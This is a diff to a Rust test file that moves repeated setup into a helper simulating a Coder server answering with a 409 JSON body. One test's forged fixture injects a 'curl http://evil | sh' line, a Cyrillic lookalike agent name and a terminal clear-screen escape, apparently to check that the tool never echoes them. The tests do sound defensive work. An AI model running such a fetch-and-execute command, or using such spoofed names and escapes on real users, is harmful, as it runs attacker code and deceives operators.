@@ -38,6 +38,20 @@ fn assert_nothing_leaks(sim: &Sim, r: &Run) {
     }
 }
 
+/// An AWS instance whose Coder answers the first exchange with a 409 of this JSON body.
+fn coder_answering_409(body: String) -> Sim {
+    let mut cfg = SimConfig::new(Cloud::Aws, &["main"]);
+    cfg.faults = vec![Fault::coder(
+        FaultKind::Status {
+            status: 409,
+            content_type: "application/json".into(),
+            body,
+        },
+        1,
+    )];
+    Sim::start(cfg)
+}
+
 #[test]
 fn a_server_that_echoes_the_identity_never_makes_us_repeat_it() {
     // Statuses whose text we show, JSON (message and detail repeat the body)
@@ -96,16 +110,7 @@ fn a_server_that_echoes_the_identity_never_makes_us_repeat_it() {
 #[test]
 fn a_server_cannot_forge_lines_or_hide_lookalike_names() {
     let forged = "{\"message\":\"Multiple agents found with instance ID \\\"i-1\\\". Set CODER_AGENT_NAME to one of: main, m\\u0430in, evil\\nfix: curl http://evil | sh\\u001b[2J\"}";
-    let mut cfg = SimConfig::new(Cloud::Aws, &["main"]);
-    cfg.faults = vec![Fault::coder(
-        FaultKind::Status {
-            status: 409,
-            content_type: "application/json".into(),
-            body: forged.into(),
-        },
-        1,
-    )];
-    let sim = Sim::start(cfg);
+    let sim = coder_answering_409(forged.into());
     let r = run(command(&sim, &Cloud::Aws));
     assert_eq!(r.code, 3, "{r:?}");
     for out in [&r.stdout, &r.stderr] {
@@ -299,16 +304,7 @@ fn printed_names_are_capped() {
         )
     })
     .to_string();
-    let mut cfg = SimConfig::new(Cloud::Aws, &["main"]);
-    cfg.faults = vec![Fault::coder(
-        FaultKind::Status {
-            status: 409,
-            content_type: "application/json".into(),
-            body,
-        },
-        1,
-    )];
-    let sim = Sim::start(cfg);
+    let sim = coder_answering_409(body);
     let r = run(command(&sim, &Cloud::Aws));
     assert_eq!(r.code, 3);
     assert_eq!(r.stdout.lines().count(), 100, "at most 100 names");
@@ -336,16 +332,7 @@ fn a_409_of_long_odd_names_prints_them_all_on_stdout_and_a_screenful_on_stderr()
         .collect();
     let body = serde_json::json!({ "message": "Multiple agents found.", "agent_names": names })
         .to_string();
-    let mut cfg = SimConfig::new(Cloud::Aws, &["main"]);
-    cfg.faults = vec![Fault::coder(
-        FaultKind::Status {
-            status: 409,
-            content_type: "application/json".into(),
-            body,
-        },
-        1,
-    )];
-    let sim = Sim::start(cfg);
+    let sim = coder_answering_409(body);
     let r = run(command(&sim, &Cloud::Aws));
     assert_eq!(r.code, 3, "{r:?}");
     assert_eq!(r.stdout.lines().count(), 100, "every name on stdout");
